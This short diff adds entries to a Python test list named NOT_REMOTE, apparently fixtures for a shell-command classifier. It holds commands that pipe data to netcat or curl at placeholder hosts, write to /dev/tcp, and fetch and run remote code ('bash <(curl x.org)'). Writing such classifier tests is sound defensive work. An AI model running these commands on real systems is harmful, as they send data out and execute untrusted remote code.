@@ -135,6 +135,7 @@ NOT_REMOTE = [
         "ls | nc h 1",
     ),
     *("bash build.sh > log", "bash build.sh 2>&1 | tee log", "python3 x.py | curl -d @- x.org"),
+    *("uvx a | nc x.org 80", "bash <(curl x.org) | nc x.org 80"),
     *("cat f > /dev/tcp/x.org/80; bash x", "(exec 3<>/dev/tcp/x.org/80); bash x"),
 ]
 
